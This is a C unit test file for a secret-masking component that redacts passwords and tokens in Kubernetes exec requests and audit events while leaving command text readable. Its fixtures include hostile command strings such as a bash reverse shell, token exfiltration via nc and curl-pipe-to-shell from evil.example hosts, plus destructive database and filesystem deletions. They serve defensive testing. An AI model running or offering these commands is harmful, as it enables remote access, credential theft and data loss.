/* SPDX-License-Identifier: Apache-2.0 */
/*
 * What acts stays legible, what is secret does not, in commands; and a word that is masked in a
 * request is masked in every text that quotes it.
 */
#include "support/run_tests.h"
#include "unit/mask_cases.h"

/* What stays of a script, and the secret in it; NULL: all stays. */
static const struct {
	const char *stays, *secret, *script;
} scripts[] = {
	/* who decides must see the table, the namespace, the path, what is deleted */
	{"DROP TABLE orders_2024", NULL, "psql -c 'DROP TABLE orders_2024'"},
	{"ns prod-eu1 --force", NULL, "kubectl delete ns prod-eu1 --force"},
	{"-name '*.db' -delete", NULL, "find / -name '*.db' -delete"},
	{"secret/app1", NULL, "vault kv delete secret/app1"},
	{"shutil.rmtree('/srv')", NULL, "python3 -c \"import shutil; shutil.rmtree('/srv')\""},
	{"drop database shop_eu1", NULL, "mysql -e \"drop database shop_eu1\""},
	{"-n prod-eu1 exec db-0", NULL, "kubectl -n prod-eu1 exec db-0 -- sh"},
	{"/dev/tcp/10.1.2.3/4444", NULL, "bash -i >& /dev/tcp/10.1.2.3/4444 0>&1"},
	{"evil.example.com 443", NULL, "cat /run/token | nc evil.example.com 443"},
	{"http://evil.example/p.sh|sh", NULL, "curl -s http://evil.example/p.sh|sh"},
	{"https://k8s-7d4f9c6b8x2k9p1q.elb.example.com/", NULL,
		"curl https://k8s-7d4f9c6b8x2k9p1q.elb.example.com/"},
	{"cd $HOME", NULL, "cd $HOME"},
	{"$(curl -s https://evil/x|sh)", NULL, "PASSWORD=\"$(curl -s https://evil/x|sh)\""},
	{"$(curl -s https://evil/x|sh)", "hunter2secret",
		"echo $(curl -s https://evil/x|sh) hunter2secret"},
	{">> /etc/passwd", "hunter2secret",
		"chmod 777 /etc/shadow && echo hunter2secret >> /etc/passwd"},
	{"https://evil1.example.com/a/b.sh?k=", "Zq7unlisted9pw",
		"curl -s https://evil1.example.com/a/b.sh?k=Zq7unlisted9pw | bash"},
	/* what is typed behind these is a secret */
	{"vault login ", "hvx.Qm93Zz81kkPdq", "vault login hvx.Qm93Zz81kkPdq"},
	{"vault write auth/x password=", "welcome_2024",
		"vault write auth/x password=welcome_2024"},
	{"vault kv put secret/x ", "summer-2024", "vault kv put secret/x v=1 summer-2024"},
	{"htpasswd -b", "Pw-9981-abc", "htpasswd -b /f bob Pw-9981-abc"},
	{"| passwd --stdin", "Zq7-unlisted-9pw", "echo Zq7-unlisted-9pw | passwd --stdin root"},
	{"redis-cli -a", "Zq7unlisted9pw", "redis-cli -a Zq7unlisted9pw FLUSHALL"},
	{"redis-cli AUTH ", "tuna_42", "redis-cli AUTH tuna_42"},
	{"delete from users_eu2", "Zq7unlisted9pw",
		"PGPASSWORD=Zq7unlisted9pw psql -c \"delete from users_eu2\""},
	{"openssl passwd", "Zq7unlisted9pw", "openssl passwd -6 Zq7unlisted9pw"},
	{"smbclient //h/s ", "summer-2024", "smbclient //h/s summer-2024"},
	{"unlock ", "correct-horse-battery", "my-tool unlock correct-horse-battery"},
	{"kubectl ", "Zq7unlisted9pwXY", "kubectl get Zq7unlisted9pwXY"},
	{"mysql ", "Pw9981abc", "mysql -pPw9981abc -e 'select 1'"},
};

static const char *masked_script(const char *script)
{
	static struct buf in = BUF_INIT(65536), out = BUF_INIT(65536);

	buf_reset(&in);
	buf_add_str(&in, "{\"kind\":\"PodExecOptions\",\"command\":[\"sh\",\"-c\",");
	json_put_string(&in, span_of(script));
	buf_add_str(&in, "]}");
	mask_json(masker, buf_str(&in), &out);
	return buf_str(&out);
}

START_TEST(mask__of_a_command_stays_what_acts)
{
	const char *got = masked_script(scripts[_i].script);
	struct json_doc d;
	struct span shown;

	read_doc(span_of(got), arena, &d);
	shown = json_string(&d, json_pointer_str(&d, JSON_ROOT, "/command/2"), arena);
	ck_assert_msg(memmem(shown.ptr, shown.len, scripts[_i].stays, strlen(scripts[_i].stays)),
		"%s: %s", scripts[_i].script, got);
	if (scripts[_i].secret)
		ck_assert_msg(!strstr(got, scripts[_i].secret), "%s", got);
	else
		ck_assert_msg(span_eq_str(shown, scripts[_i].script), "%s", got);
}
END_TEST

/* Where a secret would stand: code is judged word by word, anything else is hidden whole. */
static const struct {
	bool stays;
	const char *value;
} values[] = {
	{true, "cat /var/run/secrets/kubernetes.io/serviceaccount/token | nc evil.example.com 443"},
	{true, "$(curl -s https://evil.example/x | sh)"},
	{true, "curl -s https://evil.example/x"},
	{true, "rm -rf /data; sleep 1"},
	{true, "`wget -q https://evil.example/x`"},
	{false, "hunter2secret"},
	{false, "hunter2|secret"},
	{false, "a;b|c>d"},
	{false, "correct horse battery staple"},
	{false, "cat sat on the mat"},
	{false, "find the red horse"},
	{false, "Server=db; Port=1; Pass word=hunter2secret"},
	{false, "$(NOT"},
	{false, "p`a`s`s"},
	{false, "ls|hunter2"},
};

START_TEST(mask__code_where_a_secret_is_expected)
{
	_cleanup_(buf_free) struct buf in = BUF_INIT(65536), out = BUF_INIT(65536);
	struct json_doc d;
	struct span shown;

	buf_add_str(&in,
		"{\"kind\":\"Pod\",\"spec\":{\"containers\":[{\"env\":[{\"name\":\"DB_PASSWORD\","
		"\"value\":");
	json_put_string(&in, span_of(values[_i].value));
	buf_add_str(&in, "}]}]}}");
	mask_json(masker, buf_str(&in), &out);
	read_doc(buf_span(&out), arena, &d);
	shown = json_string(
		&d, json_pointer_str(&d, JSON_ROOT, "/spec/containers/0/env/0/value"), arena);
	ck_assert_msg(
		span_eq_str(shown, values[_i].value) == values[_i].stays, "%s", buf_str(&out));
	if (!values[_i].stays)
		ck_assert_msg(
			shown.len > 8 && memcmp(shown.ptr, "[masked ", 8) == 0, "%s", out.ptr);
}
END_TEST

/* ---- texts that quote the request ---- */

#define EVENT(uri, object, message)                                                                \
	"{\"kind\":\"Event\",\"requestURI\":\"" uri "\",\"objectRef\":{\"resource\":\"pods\","     \
	"\"subresource\":\"exec\"},\"responseStatus\":{\"message\":\"" message                     \
	"\",\"details\":{\"causes\":[{\"message\":\"" message "\"}]}},\"requestObject\":" object   \
	",\"annotations\":{\"x/why\":\"" message "\"}}"

static const struct {
	const char *secret, *event;
} quotes[] = {
	/* in argv, in the URI, in data, in the environment, in what base64 spells; escaped */
	{"hvx.Qm93Zz81kkPdq",
		EVENT("/x",
			"{\"kind\":\"PodExecOptions\",\"command\":[\"vault\",\"login\","
			"\"hvx.Qm93Zz81kkPdq\"]}",
			"runs vault login hvx.Qm93Zz81kkPdq in prod")},
	{"hvx.Qm93Zz81kkPdq",
		EVENT("/api/v1/namespaces/a/pods/p/exec?command=vault&command=login&command=hvx."
		      "Qm93Zz81kkPdq",
			"null", "no: vault,login,hvx.Qm93Zz81kkPdq")},
	{"plain words", EVENT("/x", "{\"kind\":\"Secret\",\"stringData\":{\"k\":\"plain words\"}}",
				"k is plain words, it says")},
	{"plain words", EVENT("/x", "{\"kind\":\"Secret\",\"data\":{\"k\":\"cGxhaW4gd29yZHM=\"}}",
				"k is plain words, it says")},
	{"cGxhaW4gd29yZHM=",
		EVENT("/x", "{\"kind\":\"Secret\",\"data\":{\"k\":\"cGxhaW4gd29yZHM=\"}}",
			"k is cGxhaW4gd29yZHM= , it says")},
	{"two\\nlines of it",
		EVENT("/x",
			"{\"kind\":\"Pod\",\"env\":[{\"name\":\"DB_PASSWORD\",\"value\":"
			"\"two\\nlines of it\"}]}",
			"not \\\"two\\nlines of it\\\"")},
	{"tuna", EVENT("/x", "{\"kind\":\"Secret\",\"stringData\":{\"k\":\"tuna\"}}",
			 "not (tuna) today")},
	/* a message that is cut in the word */
	{"abcdefghijklmnopqrst", EVENT("/x",
					 "{\"kind\":\"Secret\",\"stringData\":{\"k\":"
					 "\"abcdefghijklmnopqrstuvwxyz\"}}",
					 "it is abcdefghijklmnopqrst")},
};

START_TEST(mask__a_word_is_masked_in_what_quotes_it)
{
	_cleanup_(buf_free) struct buf out = BUF_INIT(65536);
	struct mask_result r;
	struct json_doc d;

	read_doc(span_of(quotes[_i].event), arena, &d);
	mask_audit_event(masker, &d, JSON_ROOT, arena, &out, &r);
	ck_assert_msg(!strstr(buf_str(&out), quotes[_i].secret), "%s", buf_str(&out));
	ck_assert_ptr_nonnull(strstr(out.ptr, "\"message\":\""));
	ck_assert_ptr_nonnull(strstr(strstr(out.ptr, "\"message\":\""), "[masked "));
}
END_TEST

/* The word's letters in other words stay. */
START_TEST(mask__short_words_only_where_they_stand_alone)
{
	_cleanup_(buf_free) struct buf out = BUF_INIT(65536);
	struct mask_result r;
	struct json_doc d;

	read_doc(SPAN(EVENT("/x",
			 "{\"kind\":\"Secret\",\"stringData\":{\"k\":\"tuna\",\"l\":\"ab\"}}",
			 "fortunate ab")),
		arena, &d);
	mask_audit_event(masker, &d, JSON_ROOT, arena, &out, &r);
	ck_assert_ptr_nonnull(strstr(buf_str(&out), "\"message\":\"fortunate ab\""));
}
END_TEST

/* The pseudonym in the text is the one in the request. */
START_TEST(mask__a_quoted_word_has_the_same_pseudonym)
{
	_cleanup_(buf_free) struct buf object = BUF_INIT(65536), text = BUF_INIT(65536);
	_cleanup_(mask_words_freep) struct mask_words *words = mask_words_new();
	const char *pseudonym;
	struct mask_result r;
	struct span value;
	struct json_doc d;

	read_doc(SPAN("{\"kind\":\"Secret\",\"data\":{\"k\":\"cGxhaW4gd29yZHM=\"}}"), arena, &d);
	mask_object_keeping(
		masker, &d, JSON_ROOT, (struct mask_target){0}, words, arena, &object, &r);
	mask_text_quoting(masker, SPAN("it is plain words!"), words, arena, &text, &r);
	pseudonym = strstr(buf_str(&object), "[masked");
	ck_assert_ptr_nonnull(pseudonym);
	ck_assert_int_eq(strncmp(buf_str(&text), "it is [masked", 13), 0);
	ck_assert_int_eq(
		strncmp(text.ptr + 6, pseudonym, (size_t)(strchr(pseudonym, ']') - pseudonym)), 0);
	ck_assert(mask_words_find(words, (struct span){text.ptr + 6, text.len - 7}, &value));
	ck_assert(span_eq(value, SPAN("plain words")));
	ck_assert(!mask_words_find(
		words, SPAN("[masked hmac-sha256:0000000000000000 len:3]"), &value));
	ck_assert(!mask_words_find(NULL, SPAN("x"), &value));
}
END_TEST

/* More secrets than can be looked for: a text that may quote them is hidden whole. */
START_TEST(mask__too_many_words_hide_the_text)
{
	_cleanup_(buf_free) struct buf in = BUF_INIT(1 << 20), out = BUF_INIT(1 << 20),
				       text = BUF_INIT(65536);
	_cleanup_(mask_words_freep) struct mask_words *words = mask_words_new();
	struct mask_result r;
	struct json_doc d;

	buf_add_str(&in, "{\"kind\":\"Secret\",\"stringData\":{");
	for (int i = 0; i < 5000; i++)
		buf_printf(&in, "%s\"k%d\":\"word %d\"", i > 0 ? "," : "", i, i);
	buf_add_str(&in, "}}");
	read_doc((struct span){buf_str(&in), in.len}, arena, &d);
	mask_object_keeping(masker, &d, JSON_ROOT, (struct mask_target){0}, words, arena, &out, &r);
	mask_text_quoting(masker, SPAN("it says: word 4999"), words, arena, &text, &r);
	ck_assert_int_eq(strncmp(buf_str(&text), "[masked", 7), 0);
	ck_assert_ptr_null(strstr(text.ptr, "says"));
}
END_TEST

int main(void)
{
	TCase *t = tcase_create("mask_exec");

	tcase_add_checked_fixture(t, setup, teardown);
	tcase_add_loop_test(t, mask__of_a_command_stays_what_acts, 0, ARRAY_LEN(scripts));
	tcase_add_loop_test(t, mask__code_where_a_secret_is_expected, 0, ARRAY_LEN(values));
	tcase_add_loop_test(t, mask__a_word_is_masked_in_what_quotes_it, 0, ARRAY_LEN(quotes));
	tcase_add_test(t, mask__short_words_only_where_they_stand_alone);
	tcase_add_test(t, mask__a_quoted_word_has_the_same_pseudonym);
	tcase_add_test(t, mask__too_many_words_hide_the_text);
	return run_tests(t);
}
